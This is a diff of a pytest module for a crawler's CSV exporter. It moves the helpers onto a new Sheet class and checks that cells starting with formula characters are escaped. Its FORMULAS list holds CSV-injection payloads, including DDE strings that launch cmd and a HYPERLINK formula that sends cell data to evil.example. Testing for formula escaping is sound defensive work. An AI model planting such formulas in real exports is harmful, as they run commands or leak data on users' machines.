@@ -9,14 +9,13 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from crawler.export.csv_table import CsvTable
+from crawler.export.csv_table import CsvTable, csv_kept
 from crawler.export.formulas import escaped, is_formula, unescaped
-from crawler.items import Item
-from crawler.records.streams import Streams, streams_of
+from crawler.export.sheet import Sheet
+from crawler.items import Item, known_fields
 from crawler.settings import Settings
 from tests.growth import assert_costs, cpu_seconds
 
-UNTYPED = streams_of([])
 FORMULAS = [
     "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
     '=HYPERLINK("http://evil.example?x="&A1,"click")', "=", "@", "@handle", "- a list's dash",
@@ -67,34 +66,35 @@ class Row(Item):
     number: float = -1.5
 
 
-async def written(
-    path: Path, streams: Streams, *calls: Sequence[Any], kept: Any = None, escapes: bool = True
-) -> list[list[str]]:
-    table = await CsvTable.open(
-        path, streams=streams, kept=kept or {}, settings=Settings(escape_formulas=escapes)
-    )
+def sheet(path: Path, kind: type | None = None, *, kept: int = 0, escapes: bool = True) -> Sheet:
+    fields = known_fields(kind) if kind else None
+    return Sheet(path, fields=fields, kept=kept, settings=Settings(escape_formulas=escapes))
+
+
+def written(into: Sheet, *calls: Sequence[Any]) -> list[list[str]]:
+    table = CsvTable(into)
     for items in calls:
-        await table.follow([msgspec.json.encode(item) for item in items], 0)
-    await table.aclose()
-    with path.open(newline="", encoding="utf-8") as file:
+        table.write([msgspec.json.encode(item) for item in items])
+    table.close()
+    with into.path.open(newline="", encoding="utf-8") as file:
         return list(csv.reader(file, strict=True))
 
 
-async def test_text_is_escaped_and_a_number_of_ours_is_not(tmp_path: Path) -> None:
-    rows = await written(tmp_path / "x.csv", streams_of([Row]), [Row(text="=1+1", number=-1.5)])
+def test_text_is_escaped_and_a_number_of_ours_is_not(tmp_path: Path) -> None:
+    rows = written(sheet(tmp_path / "x.csv", Row), [Row(text="=1+1", number=-1.5)])
     assert rows == [["text", "number"], ["'=1+1", "-1.5"]]
 
 
-async def test_a_key_that_a_site_invented_is_escaped_too(tmp_path: Path) -> None:
+def test_a_key_that_a_site_invented_is_escaped_too(tmp_path: Path) -> None:
     items = [{"=a": "x", "-5": "@b"}], [{"=a": "=c", "+d": None}]
-    rows = await written(tmp_path / "x.csv", UNTYPED, *items)
+    rows = written(sheet(tmp_path / "x.csv"), *items)
     assert rows == [["'=a", "-5", "'+d"], ["x", "'@b", ""], ["'=c", "", ""]]
 
 
-async def test_append_finds_the_columns_again_and_goes_on_the_same(tmp_path: Path) -> None:
+def test_append_finds_the_columns_again_and_goes_on_the_same(tmp_path: Path) -> None:
     path, item = tmp_path / "x.csv", {"=a": "=1", "'=a": "'=1"}
-    await written(path, UNTYPED, [item])
-    again = await written(path, UNTYPED, [item], kept=CsvTable.keep(path, UNTYPED))
+    written(sheet(path), [item])
+    again = written(sheet(path, kept=csv_kept(path, sheet(path))), [item])
     assert again == [["'=a", "''=a"], *[["'=1", "''=1"]] * 2]
 
 
@@ -103,14 +103,14 @@ class Odd(msgspec.Struct, rename={"a": "=a"}):
 
 
 @pytest.mark.parametrize("escapes", [True, False])
-async def test_append_knows_the_header_of_a_typed_table(tmp_path: Path, escapes: bool) -> None:
-    path, streams = tmp_path / "x.csv", streams_of([Odd])
-    await written(path, streams, escapes=escapes)
-    kept = CsvTable.keep(path, streams)
-    rows = await written(path, streams, [Odd(a="=1")], kept=kept, escapes=escapes)
+def test_append_knows_the_header_of_a_typed_table(tmp_path: Path, escapes: bool) -> None:
+    path = tmp_path / "x.csv"
+    written(sheet(path, Odd, escapes=escapes))
+    kept = csv_kept(path, sheet(path, Odd))
+    rows = written(sheet(path, Odd, kept=kept, escapes=escapes), [Odd(a="=1")])
     assert rows == ([["'=a"], ["'=1"]] if escapes else [["=a"], ["=1"]])
 
 
-async def test_the_setting_turns_it_off(tmp_path: Path) -> None:
-    rows = await written(tmp_path / "x.csv", UNTYPED, [{"=a": "=1"}], escapes=False)
+def test_the_setting_turns_it_off(tmp_path: Path) -> None:
+    rows = written(sheet(tmp_path / "x.csv", escapes=False), [{"=a": "=1"}])
     assert rows == [["=a"], ["=1"]]
